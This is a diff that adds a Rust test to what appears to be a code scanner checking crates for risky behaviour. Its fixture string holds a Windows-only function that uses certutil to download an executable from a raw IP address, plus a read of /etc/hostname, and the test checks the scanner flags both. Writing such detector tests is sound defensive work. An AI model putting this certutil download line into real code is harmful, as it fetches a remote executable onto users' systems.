@@ -524,3 +524,42 @@ fn deep_nesting_and_long_chains_do_not_crash_the_scanner() {
     assert_eq!(guarded, ["src/lib.rs", "src/long.rs"]);
     assert_eq!((inv.files.rust, inv.files.rust_unparsed), (3, 2));
 }
+
+#[test]
+fn cfg_if_wrapped_certutil_download_and_literal_paths() {
+    let lib = r#"
+cfg_if::cfg_if! {
+    if #[cfg(windows)] {
+        pub fn fetch() {
+            let _ = std::process::Command::new("certutil")
+                .args(["-urlcache", "-f", "http://45.13.7.9/a.exe", "a.exe"])
+                .status();
+        }
+    } else {
+        pub fn fetch() {}
+    }
+}
+
+pub fn read() -> String {
+    std::fs::read_to_string("/etc/hostname").unwrap_or_default() + &std::fs::read_to_string("data.txt").unwrap_or_default()
+}
+"#;
+    let inv = scan(&[("src/lib.rs", lib.as_bytes())]);
+    let dl = expect(&inv, SignalCode::ShellDownload, Level::Warn);
+    assert!(
+        dl.reason.contains("certutil") || dl.reason.contains("urlcache"),
+        "{dl:?}"
+    );
+    assert!(signals(&inv, SignalCode::AddressLiteral, Level::Warn)
+        .iter()
+        .any(|s| s.line == 6));
+    assert!(inv.capabilities[&CapabilityKind::Process]
+        .details
+        .contains(&"certutil".to_owned()));
+    let fs = &inv.capabilities[&CapabilityKind::Fs].details;
+    assert!(
+        fs.contains(&"/etc/hostname (outside the crate)".to_owned()),
+        "{fs:?}"
+    );
+    assert!(fs.contains(&"data.txt".to_owned()), "{fs:?}");
+}
